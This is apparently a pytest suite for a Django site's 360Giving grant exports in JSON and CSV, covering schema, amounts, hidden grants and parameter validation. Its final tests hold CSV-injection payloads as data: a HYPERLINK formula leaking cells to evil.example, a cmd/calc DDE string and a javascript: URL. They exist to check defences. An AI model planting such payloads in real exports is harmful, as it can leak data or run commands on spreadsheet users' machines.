"""The grants as 360Giving open data: JSON and CSV, exact amounts, safe parameters."""

import csv
import datetime
import io
import json
from decimal import Decimal
from urllib.parse import urlencode

from django.urls import reverse
from django.utils import timezone, translation

import jsonschema
import pytest

from funding.open_data import spreadsheet_safe
from projects.models import Organisation
from tests.core.helpers import get_html, url_in
from tests.factories import (
    GrantFactory,
    GrantWithPaymentsFactory,
    ProjectIndexPageFactory,
    ProjectPageFactory,
)
from tests.funding.helpers import (
    awarded_sum,
    euros_in,
    number_text,
    paid_sum,
    public_grants,
)

pytestmark = pytest.mark.django_db

LANGUAGES = ["fi", "en"]

# The 360Giving Data Standard's rules for a grant, as JSON Schema draft 7: the required
# fields, their types, dates as YYYY-MM-DD (planned dates may stop at the month or year),
# and at least one recipient and one funder with an identifier and a name.
FULL_DATE = r"^\d{4}-\d{2}-\d{2}$"
PARTIAL_DATE = r"^\d{4}(-(0[1-9]|1[0-2])(-(0[1-9]|[12]\d|3[01]))?)?$"
DATE_TIME = r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$"
URL = {"type": "string", "pattern": r"^https?://", "format": "uri"}
ORGANISATIONS = {
    "type": "array",
    "minItems": 1,
    "items": {
        "type": "object",
        "required": ["id", "name"],
        "properties": {
            "id": {"type": "string", "minLength": 1},
            "name": {"type": "string", "minLength": 1},
            "url": URL,
        },
    },
}
TRANSACTION = {
    "type": "object",
    "required": ["transactionDate", "value"],
    "properties": {
        "id": {"type": "string"},
        "transactionDate": {"type": "string", "pattern": FULL_DATE},
        "currency": {"const": "EUR"},
        "value": {"type": "number"},
        "provider": {"type": "string"},
        "recipient": {"type": "string"},
    },
}
GRANT_SCHEMA = {
    "type": "object",
    "required": [
        "id",
        "title",
        "description",
        "currency",
        "amountAwarded",
        "awardDate",
        "recipientOrganization",
        "fundingOrganization",
    ],
    "properties": {
        "id": {"type": "string", "minLength": 1},
        "title": {"type": "string", "minLength": 1},
        "description": {"type": "string"},
        "currency": {"const": "EUR"},
        "amountAwarded": {"type": "number"},
        "amountDisbursed": {"type": "number"},
        "awardDate": {"type": "string", "pattern": FULL_DATE},
        "plannedDates": {
            "type": "array",
            "items": {
                "type": "object",
                "properties": {
                    "startDate": {"type": "string", "pattern": PARTIAL_DATE},
                    "endDate": {"type": "string", "pattern": PARTIAL_DATE},
                },
            },
        },
        "recipientOrganization": ORGANISATIONS,
        "fundingOrganization": ORGANISATIONS,
        "disbursementTransaction": {"type": "array", "items": TRANSACTION},
        "url": URL,
        "dataSource": URL,
        "dateModified": {"type": "string", "pattern": DATE_TIME, "format": "date-time"},
    },
}
PACKAGE_SCHEMA = {
    "$schema": "http://json-schema.org/draft-07/schema#",
    "type": "object",
    "required": ["grants"],
    "properties": {"grants": {"type": "array", "items": GRANT_SCHEMA, "uniqueItems": True}},
}

# The column titles of the standard's grants sheet (schema/summary-table, grants.csv).
STANDARD_CSV_TITLES = {
    "Identifier", "Title", "Description", "Currency", "Amount Applied For", "Amount Awarded",
    "Amount Disbursed", "Award Date", "URL", "Planned Dates:Start Date",
    "Planned Dates:End Date", "Planned Dates:Duration (months)", "Recipient Org:Identifier",
    "Recipient Org:Name", "Recipient Org:Charity Number", "Recipient Org:Company Number",
    "Recipient Org:Street Address", "Recipient Org:City", "Recipient Org:Country",
    "Recipient Org:Postal Code", "Recipient Org:Description", "Recipient Org:Web Address",
    "Beneficiary Location:Name", "Beneficiary Location:Country Code",
    "Beneficiary Location:Latitude", "Beneficiary Location:Longitude",
    "Beneficiary Location:Geographic Code", "Beneficiary Location:Geographic Code Type",
    "Funding Org:Identifier", "Funding Org:Name", "Funding Org:Department",
    "Grant Programme:Code", "Grant Programme:Title", "Grant Programme:URL",
    "From an open call?", "Related Activity", "Last modified", "Data Source",
}  # fmt: skip
REQUIRED_CSV_TITLES = {
    "Identifier", "Title", "Description", "Currency", "Amount Awarded", "Award Date",
    "Recipient Org:Identifier", "Recipient Org:Name", "Funding Org:Identifier",
    "Funding Org:Name",
}  # fmt: skip


@pytest.fixture(params=LANGUAGES)
def language(request):
    return request.param


def export_url(name, language, **params):
    with translation.override(language):
        url = reverse(f"funding:grants_{name}")
    return f"{url}?{urlencode(params)}" if params else url


def get_json(client, language, **params):
    response = client.get(export_url("json", language, **params))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    return json.loads(response.content, parse_float=Decimal)["grants"]


def get_csv(client, language, **params):
    response = client.get(export_url("csv", language, **params))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))


@pytest.fixture
def cents_grants(funding_site):
    """Grants whose amounts have cents, paid in part, one with a supervisor and a payer."""
    return [
        GrantWithPaymentsFactory(
            project=funding_site.pirsote,
            amount_awarded=Decimal(amount),
            payments=payments,
            funder=funding_site.organisations.ministry,
            recipient=funding_site.organisations.council,
        )
        for amount, payments in (("0.10", ["0.05"]), ("0.20", []), ("1234.56", ["0.01", "34.55"]))
    ]


# JSON


def test_json_validates_against_the_360giving_rules(client, funding_site, cents_grants, language):
    grant = funding_site.grants[0]
    grant.last_published_at = timezone.now()
    grant.save()
    package = json.loads(client.get(export_url("json", language)).content)

    jsonschema.validate(package, PACKAGE_SCHEMA, format_checker=jsonschema.FormatChecker())
    assert len(package["grants"]) == len(public_grants())


def test_json_amounts_are_exact_numbers_summing_to_the_grants_total(
    client, funding_site, cents_grants
):
    grants = get_json(client, "fi")

    assert all(isinstance(grant["amountAwarded"], (int, Decimal)) for grant in grants)
    assert sum(grant["amountAwarded"] for grant in grants) == awarded_sum(public_grants())
    assert sum(grant["amountDisbursed"] for grant in grants) == paid_sum(public_grants())
    by_id = {grant["id"]: grant for grant in grants}
    assert by_id[cents_grants[0].identifier]["amountAwarded"] == Decimal("0.10")
    assert by_id[cents_grants[2].identifier]["amountDisbursed"] == Decimal("34.56")


def test_json_payments_are_disbursement_transactions_adding_up_to_amount_disbursed(
    client, funding_site
):
    grant = funding_site.grants[0]
    data = next(item for item in get_json(client, "fi") if item["id"] == grant.identifier)
    transactions = data["disbursementTransaction"]
    payer_id = funding_site.organisations.payer.slug

    assert sum(item["value"] for item in transactions) == data["amountDisbursed"]
    assert data["amountDisbursed"] == paid_sum([grant])
    assert sorted(item["transactionDate"] for item in transactions) == sorted(
        payment.date.isoformat() for payment in grant.payments.all()
    )
    assert len({item["id"] for item in transactions}) == len(transactions)
    assert all(item["provider"].endswith(payer_id) for item in transactions)
    assert data["plannedDates"] == [
        {"startDate": grant.planned_start.isoformat(), "endDate": grant.planned_end.isoformat()}
    ]


def test_json_texts_follow_the_address_language_with_finnish_fallback(client, funding_site):
    untranslated = funding_site.grants[1]
    untranslated.title_en = ""
    untranslated.description_en = ""
    untranslated.save()

    finnish = {grant["id"]: grant for grant in get_json(client, "fi")}
    english = {grant["id"]: grant for grant in get_json(client, "en")}

    translated = funding_site.grants[0]
    assert finnish[translated.identifier]["title"] == translated.title_fi
    assert english[translated.identifier]["title"] == translated.title_en
    assert english[translated.identifier]["fundingOrganization"][0]["name"] == (
        funding_site.organisations.ministry.name_en
    )
    assert english[translated.identifier]["url"].endswith(url_in(translated.project, "en"))
    assert english[untranslated.identifier]["title"] == untranslated.title_fi
    assert english[untranslated.identifier]["description"] == untranslated.description_fi
    assert english[translated.identifier]["dataSource"].endswith(export_url("json", "en"))
    assert finnish[translated.identifier]["dataSource"].endswith(export_url("json", "fi"))


# CSV


def test_csv_has_the_standards_column_titles_and_one_row_per_grant(
    client, funding_site, cents_grants, language
):
    reader = get_csv(client, language)
    rows = list(reader)

    assert set(reader.fieldnames) <= STANDARD_CSV_TITLES
    assert set(reader.fieldnames) >= REQUIRED_CSV_TITLES
    assert sorted(row["Identifier"] for row in rows) == sorted(
        grant.identifier for grant in public_grants()
    )
    assert all(row["Currency"] == "EUR" for row in rows)


def test_csv_amounts_are_exact_and_total_the_same_as_the_json(client, funding_site, cents_grants):
    rows = list(get_csv(client, "en"))
    json_grants = get_json(client, "en")

    csv_total = sum(Decimal(row["Amount Awarded"]) for row in rows)
    assert csv_total == awarded_sum(public_grants())
    assert csv_total == sum(grant["amountAwarded"] for grant in json_grants)
    assert sum(Decimal(row["Amount Disbursed"]) for row in rows) == paid_sum(public_grants())


@pytest.mark.parametrize("name", ["json", "csv"])
def test_exports_total_the_same_as_the_funding_page(client, funding_site, cents_grants, name):
    for language in LANGUAGES:
        if name == "json":
            total = sum(grant["amountAwarded"] for grant in get_json(client, language))
        else:
            total = sum(Decimal(row["Amount Awarded"]) for row in get_csv(client, language))
        page = get_html(client, url_in(funding_site.funding_page, language))

        assert number_text(page.select_one(".facts .fact__value")) == euros_in(language, total)


# What the public does not see


@pytest.mark.parametrize("name", ["json", "csv"])
def test_exports_leave_out_drafts_and_grants_of_unpublished_projects(client, funding_site, name):
    draft = GrantFactory(project=funding_site.pirsote, live=False)
    hidden_project = ProjectPageFactory(parent=funding_site.index, live=False)
    hidden = GrantFactory(project=hidden_project)

    response = client.get(export_url(name, "fi"))
    content = response.content.decode()

    assert response.status_code == 200
    assert funding_site.grants[0].identifier in content
    assert draft.identifier not in content
    assert hidden.identifier not in content
    assert hidden_project.code not in content


@pytest.mark.parametrize("name", ["json", "csv"])
def test_exports_leave_out_grants_of_projects_under_an_unpublished_page(
    client, home_page, funding_site, name
):
    archive = ProjectIndexPageFactory(
        parent=home_page, title_fi="Arkisto", slug_fi="arkisto", slug_en="archive", live=False
    )
    hidden = GrantFactory(project=ProjectPageFactory(parent=archive, acronym="Arkistoitu"))

    content = client.get(export_url(name, "fi")).content.decode()

    assert funding_site.grants[0].identifier in content
    assert hidden.identifier not in content


# Parameters


BAD_PARAMETERS = [
    {"project": "nope"},
    {"year": "abc"},
    {"year": "99999999999999999999"},
    {"year": "\x00"},
    {"project": "\x00"},
    {"year": "1899"},
    {"year": "9" * 10_000},
    {"project": "x" * 10_000},
]


@pytest.mark.parametrize("params", BAD_PARAMETERS, ids=lambda params: repr(params)[:40])
def test_bad_json_parameters_give_400_with_the_errors_as_json(client, funding_site, params):
    response = client.get(export_url("json", "en", **params))

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    errors = json.loads(response.content)["errors"]
    assert list(errors) == list(params)
    assert len(response.content) < 1000  # the bad value is not echoed back


@pytest.mark.parametrize("params", BAD_PARAMETERS, ids=lambda params: repr(params)[:40])
def test_bad_csv_parameters_give_400_with_the_errors_as_text(client, funding_site, params):
    response = client.get(export_url("csv", "fi", **params))

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    assert response.content.decode().startswith(f"{next(iter(params))}: ")
    assert len(response.content) < 1000


@pytest.mark.parametrize("name", ["json", "csv"])
def test_percent_encoded_nul_in_the_address_gives_400(client, funding_site, name):
    response = client.get(export_url(name, "fi") + "?year=%00")

    assert response.status_code == 400


def test_unknown_parameters_are_ignored(client, funding_site):
    everything = get_json(client, "fi")

    assert get_json(client, "fi", colour="blue", page="abc", format="xml") == everything


@pytest.mark.parametrize("name", ["json", "csv"])
def test_post_is_not_allowed(client, funding_site, name):
    assert client.post(export_url(name, "fi")).status_code == 405


def test_filter_by_project_gives_only_its_grants(client, funding_site):
    grants = get_json(client, "en", project=funding_site.rakenne.code)
    rows = list(get_csv(client, "en", project=funding_site.pirsote.code))

    assert [grant["id"] for grant in grants] == [funding_site.grants[1].identifier]
    assert [row["Identifier"] for row in rows] == [funding_site.grants[0].identifier]


def test_filter_by_year_gives_the_grants_awarded_that_year(client, funding_site):
    later = GrantFactory(project=funding_site.pirsote, award_date=datetime.date(2021, 3, 1))

    in_2021 = get_json(client, "fi", year="2021")
    in_2020 = list(get_csv(client, "fi", year="2020"))

    assert [grant["id"] for grant in in_2021] == [later.identifier]
    assert sorted(row["Identifier"] for row in in_2020) == sorted(
        grant.identifier for grant in funding_site.grants
    )
    assert get_json(client, "fi", year="2019") == []


def test_csv_downloads_as_an_attachment_named_for_its_language(client, funding_site, language):
    response = client.get(export_url("csv", language))

    assert (
        response["Content-Disposition"] == f'attachment; filename="pirsote-grants-{language}.csv"'
    )


# Spreadsheet formulas (CSV injection): cells a spreadsheet would run are shown as text.


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Avaa")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Avaa")',
        ),
        ("+358 40 000 0000", "'+358 40 000 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rtext", "'\rtext"),
        ("   =1+1", "'   =1+1"),
        ("\n@SUM(1)", "'\n@SUM(1)"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-1500.50", "-1500.50"),
        ("+12", "+12"),
        ("5921081", "5921081"),
        ("Avustus -ohjelmalle = 5 M€", "Avustus -ohjelmalle = 5 M€"),
        ("2020-06-01", "2020-06-01"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_leading_quote_and_numbers_stay(cell, expected):
    assert spreadsheet_safe(cell) == expected


def test_csv_neutralises_formulas_and_the_json_keeps_the_texts_exact(client, funding_site):
    ministry = funding_site.organisations.ministry
    ministry.name_fi = "+cmd|' /C calc'!A0"
    ministry.save()
    grant = GrantFactory(
        project=funding_site.pirsote,
        funder=ministry,
        recipient=funding_site.organisations.council,
        identifier="360G-pirsote-kaava",
        title_fi='=HYPERLINK("https://evil.example/?leak="&A1,"Avaa")',
        description_fi="\t@SUM(1+1)",
        decision_reference="-VN/1/2020",
        amount_awarded=Decimal("1500.50"),
    )

    rows = {row["Identifier"]: row for row in get_csv(client, "fi")}
    row = rows[grant.identifier]
    assert row["Title"] == "'" + grant.title_fi
    assert row["Description"] == "'\t@SUM(1+1)"
    assert row["Funding Org:Name"] == "'+cmd|' /C calc'!A0"
    assert row["Amount Awarded"] == "1500.50"  # numbers stay numbers
    for other in rows.values():
        for value in other.values():
            assert not value.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), value
    exact = {g["id"]: g for g in get_json(client, "fi")}[grant.identifier]
    assert exact["title"] == grant.title_fi
    assert exact["description"] == "\t@SUM(1+1)"
    assert exact["fundingOrganization"][0]["name"] == "+cmd|' /C calc'!A0"


def test_an_unsafe_organisation_address_is_left_out_of_the_open_data(client, funding_site):
    council = funding_site.organisations.council
    Organisation.objects.filter(pk=council.pk).update(website="javascript:alert(1)")

    for grant in get_json(client, "en"):
        assert "url" not in grant["recipientOrganization"][0]
    for row in get_csv(client, "en"):
        assert row["Recipient Org:Web Address"] == ""
